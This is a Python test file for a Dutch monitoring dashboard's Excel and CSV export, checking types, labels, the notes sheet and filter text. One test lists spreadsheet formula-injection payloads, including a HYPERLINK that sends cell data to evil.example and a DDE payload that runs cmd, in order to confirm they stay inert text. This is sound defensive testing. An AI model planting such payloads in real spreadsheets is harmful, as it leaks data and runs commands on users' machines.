"""The Excel download of a figure: types, title, labels next to codes, the Toelichting sheet, and
no cell that Excel could run as a formula. Read back with python-calamine (values and types) and
from the file's own XML (formulas)."""

from __future__ import annotations

import datetime as dt
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
from python_calamine import CalamineWorkbook

from dashboard import registry
from dashboard.csvout import to_csv_bytes
from dashboard.figuredata import FigureData, Filters
from dashboard.xlsxout import DATA_SHEET, HEADER_ROW, NOTES_SHEET, filters_text, to_xlsx_bytes, xlsx_filename

PROJECT = Path(__file__).resolve().parent.parent
PEILDATUM = dt.date(2026, 9, 30)
MADE = dt.date(2026, 11, 29)


def sheets(payload: bytes) -> dict[str, list[list]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(payload))
    return {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}


def figure(df: pd.DataFrame, filters: Filters = Filters(), threshold: int = 5) -> FigureData:
    return FigureData(indicator=registry.get("instroom-per-kwartaal"), filters=filters, df=df,
                      threshold=threshold, protected=True)


def test_rows_as_numbers_and_text_with_a_title_and_labels_next_to_codes():
    df = pd.DataFrame({"proeftuin": ["flevoland", "friesland"], "kwartaal": ["2024-Q1", "2024-Q1"],
                       "aangemeld": [12, "<5"]})
    book = sheets(to_xlsx_bytes(figure(df, Filters(tranche=2, van="2024-Q1", tot="2024-Q4")), PEILDATUM, MADE))
    assert list(book) == [DATA_SHEET, NOTES_SHEET]
    data = book[DATA_SHEET]
    assert data[0][0] == "Aangemelde casussen per kwartaal"
    assert "tranche 2" in data[1][0] and "2024-Q1 t/m 2024-Q4" in data[1][0]
    assert "peildatum 30-09-2026" in data[1][0] and "gemaakt op 29-11-2026" in data[1][0]
    assert "4 of minder" in data[2][0] or "<5" in data[2][0]
    assert data[HEADER_ROW] == ["proeftuin", "proeftuin_naam", "kwartaal", "aangemeld"]
    # The label sits right after its code; 12 is a number, '<5' text, the quarter text.
    assert data[HEADER_ROW + 1] == ["flevoland", "Flevoland", "2024-Q1", 12]
    assert data[HEADER_ROW + 2] == ["friesland", "Friesland", "2024-Q1", "<5"]
    assert isinstance(data[HEADER_ROW + 1][3], (int, float)) and not isinstance(data[HEADER_ROW + 1][3], bool)
    assert len(data) == HEADER_ROW + 3


def test_dates_are_dates_and_decimals_stay_exact():
    df = pd.DataFrame({"ontvangen": [dt.date(2026, 7, 29), None, pd.Timestamp("2026-10-01")],
                       "waarde": [63.25, float("nan"), 0.5]})
    data = sheets(to_xlsx_bytes(figure(df, threshold=0), PEILDATUM, MADE))[DATA_SHEET]
    assert data[HEADER_ROW + 1][0] in (dt.date(2026, 7, 29), dt.datetime(2026, 7, 29))
    assert data[HEADER_ROW + 1][1] == 63.25
    assert data[HEADER_ROW + 2] == ["", ""]
    assert data[HEADER_ROW + 3][0] in (dt.date(2026, 10, 1), dt.datetime(2026, 10, 1))
    # Without protection the first lines say so rather than printing an empty note.
    assert "Zonder bescherming" in data[2][0]


def test_toelichting_has_definition_filters_peildatum_source_and_protection():
    df = pd.DataFrame({"proeftuin": ["zeeland"], "kwartaal": ["2023-Q2"], "aangemeld": [7]})
    notes = sheets(to_xlsx_bytes(figure(df, Filters(proeftuinen=("utrecht", "zeeland"))), PEILDATUM, MADE))[NOTES_SHEET]
    pairs = {row[0]: row[1] for row in notes if len(row) > 1 and row[0]}
    indicator = registry.get("instroom-per-kwartaal")
    assert pairs["Definitie"] == indicator.definitie
    assert pairs["Filters"] == "proeftuinen Utrecht, Zeeland"
    assert pairs["Peildatum"] == "30-09-2026"
    assert "Proeftuinmonitor" in pairs["Bron"] and "casussen.datum_aanmelding" in pairs["Bron"]
    assert "<5" in pairs["Bescherming kleine aantallen"]
    assert pairs["Figuur-id"] == "instroom-per-kwartaal"


def test_no_cell_can_become_a_formula_or_a_link():
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)",
                "http://evil.example/", "-2+3", "0012"]
    df = pd.DataFrame({"werkgebied": payloads, "aangemeld": list(range(len(payloads)))})
    payload = to_xlsx_bytes(figure(df, threshold=0), PEILDATUM, MADE)
    with zipfile.ZipFile(io.BytesIO(payload)) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
        assert not any(n.startswith("xl/worksheets/_rels") for n in z.namelist())  # no hyperlinks
    assert not re.search(r"<f[ >]", xml), "a formula element in the sheet"
    data = sheets(payload)[DATA_SHEET]
    # Every payload comes back as the same text, '0012' not turned into the number 12.
    assert [row[0] for row in data[HEADER_ROW + 1:]] == payloads


def test_filters_in_words():
    assert filters_text(Filters()) == "geen (alle proeftuinen, alle kwartalen)"
    assert filters_text(Filters(tranche=1, tot="2023-Q4")) == "tranche 1; eerste kwartaal t/m 2023-Q4"
    assert filters_text(Filters(proeftuinen=("flevoland",))) == "proeftuin Flevoland"
    assert xlsx_filename("kpi_alle_2026-11-29.csv") == "kpi_alle_2026-11-29.xlsx"


def test_cli_export_xlsx_holds_the_same_rows_as_the_csv(demo_store, tmp_path):
    common = [sys.executable, "-m", "dashboard", "export", "instroom-per-kwartaal", "--tranche", "2",
              "--van", "2024-Q1", "--tot", "2024-Q4", "--data-dir", str(demo_store)]
    subprocess.run([*common, "--format", "xlsx", "--out", str(tmp_path / "f.xlsx")], cwd=PROJECT, check=True,
                   capture_output=True, timeout=120)
    subprocess.run([*common, "--format", "csv", "--out", str(tmp_path / "f.csv")], cwd=PROJECT, check=True,
                   capture_output=True, timeout=120)
    csv_rows = (tmp_path / "f.csv").read_bytes().decode("utf-8-sig").splitlines()
    data = sheets((tmp_path / "f.xlsx").read_bytes())[DATA_SHEET]
    # Five tranche-2 proeftuinen, four quarters each.
    assert len(csv_rows) == 1 + 5 * 4
    assert len(data) == HEADER_ROW + 1 + 5 * 4
    header = csv_rows[0].split(",")
    assert data[HEADER_ROW] == ["proeftuin", "proeftuin_naam", *header[1:]]
    for line, row in zip(csv_rows[1:], data[HEADER_ROW + 1:], strict=True):
        code, kwartaal, aangemeld = line.split(",")
        assert row[0] == code and row[2] == kwartaal
        assert str(row[3]) == aangemeld if aangemeld.startswith("<") else int(row[3]) == int(aangemeld)


def test_every_csv_format_starts_with_a_byte_order_mark():
    df = pd.DataFrame({"proeftuin": ["friesland"], "naam": ["Fryslân"]})
    for fmt in ("csv-nl", "csv"):
        payload = to_csv_bytes(df, fmt)
        assert payload.startswith(b"\xef\xbb\xbf")
        assert "Fryslân" in payload.decode("utf-8-sig")
